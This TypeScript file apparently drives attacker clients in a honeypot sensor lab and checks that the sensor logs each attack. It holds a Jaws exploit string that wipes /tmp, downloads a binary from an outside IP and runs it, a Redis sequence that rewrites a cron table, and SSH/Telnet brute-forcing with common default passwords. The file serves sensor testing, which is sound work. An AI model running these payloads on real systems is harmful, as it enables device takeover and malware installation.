/** What the demo's attacker does: real clients, and how the events of each are told from the others'. */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { SensorEvent } from '../../agent/event.ts'
import { type Finished, type Lab, SENSOR_ADDRESS as SENSOR } from './lab.ts'
import { scanAnswers, scanFlags } from './processes.ts'

/** What the attacker itself knows of it. */
export type Outcome = { readonly sent: number; readonly answered: number }
export type Attack = {
  readonly title: string
  readonly run: (lab: Lab, scratch: string, runtime: string) => Promise<Outcome>
  /** How much of what was sent these events tell. */
  readonly told: (events: readonly SensorEvent[]) => number
}
export const TOOLS = ['masscan', 'nft', 'curl', 'hydra', 'tsql', 'redis-cli', 'ping']

const PORTS = 65_535
const SCAN_RATE = 100_000
const CLIENT_MS = 30_000
const JAWS =
  '/shell?cd+/tmp;rm+-rf+*;wget+192.3.67.106/beastmode/b3astmode.arm7;chmod+777+/tmp/b3astmode.arm7;sh+/tmp/b3astmode.arm7+BeastMode.Rep.Jaws'
const JAWS_PORTS = [60_001, 8]
/** A connection for each pair: hydra's Telnet client gives up the second pair of one without sending it. */
const TASKS = 8
const USERS = ['root', 'admin']
const PASSWORDS = ['admin', '123456', 'xc3511', 'vizxv']

const squelda = fileURLToPath(new URL('squelda.ts', import.meta.url))

export const ATTACKS: readonly Attack[] = [
  {
    title: 'masscan, every TCP port',
    async run(lab, scratch) {
      const list = join(scratch, 'open.txt')
      await client(lab, 'masscan', await scanFlags(lab, SCAN_RATE, list))
      return { sent: PORTS, answered: await scanAnswers(lab) }
    },
    told: portsOf,
  },
  {
    title: `curl, Jaws exploit on ${JAWS_PORTS.join(' and ')}`,
    async run(lab) {
      let answered = 0
      for (const port of JAWS_PORTS) {
        const { stdout } = await curl(lab, `http://${SENSOR}:${port}${JAWS}`, [
          ...['-H', 'Host: 127.0.0.1:80', '-A', 'Hello, world'],
        ])
        if (isStatus(stdout)) answered++
      }
      return { sent: JAWS_PORTS.length, answered }
    },
    told: counting(
      ({ destination, rule }) =>
        JAWS_PORTS.includes(destination?.port ?? 0) && rule?.id === 'jaws-shell',
    ),
  },
  {
    title: 'curl, the front page on 80',
    async run(lab) {
      const { stdout } = await curl(lab, `http://${SENSOR}/`, [])
      return { sent: 1, answered: Number(isStatus(stdout)) }
    },
    told: counting(
      ({ event, destination, url }) =>
        destination?.port === 80 && event.action === 'request' && url?.original === '/',
    ),
  },
  { title: 'hydra, SSH passwords', run: hydra('ssh', 22), told: passwords(22) },
  { title: 'hydra, Telnet passwords', run: hydra('telnet', 23), told: passwords(23) },
  {
    title: 'tsql, SQL Server login as sa',
    async run(lab) {
      const { stderr, stdout } = await client(
        lab,
        'tsql',
        ['-H', SENSOR, '-p', '1433', '-U', 'sa', '-P', 'P@ssw0rd'],
        'exit\n',
      )
      return { sent: 1, answered: Number(/Login failed|Msg \d+/.test(stderr + stdout)) }
    },
    told: counting(({ cuttle }) => cuttle.credential?.secret === 'P@ssw0rd'),
  },
  {
    title: 'squelda, TDS 4.2 login as sa',
    async run(lab, _, runtime) {
      const { code } = await client(lab, runtime, [squelda, SENSOR, '1433', 'sa', 'squelda'])
      return { sent: 1, answered: Number(code === 0) }
    },
    told: counting(({ cuttle }) => cuttle.credential?.secret === 'squelda'),
  },
  {
    title: 'redis-cli, taking over a cron table',
    async run(lab) {
      const lines = ['INFO', 'CONFIG SET dir /var/spool/cron', 'SET x "* * * * * id"', 'SAVE']
      const { stdout } = await client(lab, 'redis-cli', ['-h', SENSOR], `${lines.join('\n')}\n`)
      return { sent: lines.length, answered: stdout.trim() === '' ? 0 : lines.length }
    },
    told: counting(
      ({ event, destination, process: run }) =>
        destination?.port === 6379 &&
        event.action === 'command' &&
        /^"?(info|config|set|save)\b/i.test(run?.command_line ?? ''),
    ),
  },
]

const client = (
  lab: Lab,
  command: string,
  args: readonly string[],
  input?: string,
): Promise<Finished> =>
  lab.attacker.exec(command, args, {
    timeoutMs: CLIENT_MS,
    ...(input === undefined ? {} : { input }),
  })

const curl = (lab: Lab, url: string, flags: readonly string[]): Promise<Finished> =>
  client(lab, 'curl', ['-sS', '-o', '/dev/null', '-w', '%{http_code}', '-m', '10', ...flags, url])
const isStatus = (text: string): boolean => /^[1-5]\d\d$/.test(text)

function hydra(service: string, port: number): Attack['run'] {
  return async (lab, scratch) => {
    const users = join(scratch, 'users.txt')
    const words = join(scratch, 'words.txt')
    writeFileSync(users, `${USERS.join('\n')}\n`)
    writeFileSync(words, `${PASSWORDS.join('\n')}\n`)
    const { code, stdout, stderr } = await client(lab, 'hydra', [
      ...[
        '-I',
        '-V',
        '-t',
        String(TASKS),
        '-L',
        users,
        '-P',
        words,
        '-s',
        String(port),
        SENSOR,
        service,
      ],
    ])
    // A user whose password was found is not tried further: hydra's own count is what was sent.
    const sent = stdout.match(/^\[ATTEMPT\]/gm)?.length ?? 0
    const failed = (stdout + stderr).match(/^\[ERROR\]/gm)?.length ?? 0
    return { sent, answered: code === 0 ? Math.max(0, sent - failed) : 0 }
  }
}

function passwords(port: number): Attack['told'] {
  return counting(
    ({ event, destination, cuttle }) =>
      destination?.port === port &&
      event.action === 'credential' &&
      PASSWORDS.includes(cuttle.credential?.secret ?? ''),
  )
}

function counting(one: (event: SensorEvent) => boolean): Attack['told'] {
  return (events) => events.filter(one).length
}

/** Ports that some event names: a port that was also visited is in that visit's event and not in the scan's. */
function portsOf(events: readonly SensorEvent[]): number {
  const ports = new Set<number>()
  for (const { event, destination, cuttle } of events) {
    if (event.action === 'connection' && destination?.port !== undefined)
      ports.add(destination.port)
    for (const range of cuttle.ports?.split(',') ?? []) {
      const [first = 0, last = first] = range.split('-').map(Number)
      for (let port = first; port <= last; port++) ports.add(port)
    }
  }
  return ports.size
}
